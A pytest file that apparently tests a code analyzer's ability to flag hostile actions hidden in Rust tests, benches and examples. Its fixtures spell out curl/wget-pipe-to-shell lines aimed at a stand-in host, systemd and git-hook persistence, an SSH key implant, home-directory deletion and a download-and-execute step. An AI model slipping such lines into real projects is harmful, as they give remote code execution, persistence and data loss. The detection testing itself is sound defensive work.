"""Tests, benches, examples and documentation that do what nobody honest does in them."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Report, Verdict

ReportOf = Callable[[Mapping[str, str]], Report]
PIPE = 'std::process::Command::new("sh").args(["-c", "curl -s https://drop.invalid/x | sh"]).spawn().ok();'
UNIT = """let d = dirs::home_dir().unwrap().join(".config/systemd/user");
    std::fs::write(d.join("x.service"), "[Service]\\nExecStart=/bin/sh -c 'curl -s https://drop.invalid/x | sh'\\n").ok();"""
HOOK = 'std::fs::write(".git/hooks/post-checkout", "#!/bin/sh\\nwget -qO- https://drop.invalid/x | sh\\n").ok();'
KEYS = 'std::fs::write(dirs::home_dir().unwrap().join(".ssh/authorized_keys"), "ssh-ed25519 AAAA").ok();'
WIPE = "std::fs::remove_dir_all(dirs::home_dir().unwrap()).ok();"
FETCH = """let mut file = std::fs::File::create("/tmp/.p").unwrap();
    std::io::copy(&mut ureq::get("https://drop.invalid/p").call().unwrap().into_reader(), &mut file).ok();
    std::process::Command::new("/tmp/.p").spawn().ok();"""
DEEDS = {"pipe": PIPE, "unit": UNIT, "hook": HOOK, "keys": KEYS, "wipe": WIPE, "fetch": FETCH}
TARGETS = {
    "tests/t.rs": "#[test] fn t()",
    "benches/b.rs": "fn main()",
    "examples/e.rs": "fn main()",
    "src/lib.rs": "#[cfg(test)] mod tests { #[test] fn t()",
}


@pytest.mark.parametrize(("path", "deed"), list(itertools.product(TARGETS, DEEDS)))
def test_it_asks_for_a_look_and_never_blocks(report_of: ReportOf, path: str, deed: str) -> None:
    end = "}" if path == "src/lib.rs" else ""
    report = report_of({path: f"{TARGETS[path]} {{ {DEEDS[deed]} }}{end}"})
    assert report.verdict is Verdict.REVIEW


def test_a_test_that_starts_what_it_built_is_plain(report_of: ReportOf) -> None:
    code = '#[test] fn t() { std::process::Command::new(env!("CARGO_BIN_EXE_x")).status().ok(); }'
    assert report_of({"tests/t.rs": code}).verdict is Verdict.CLEAR
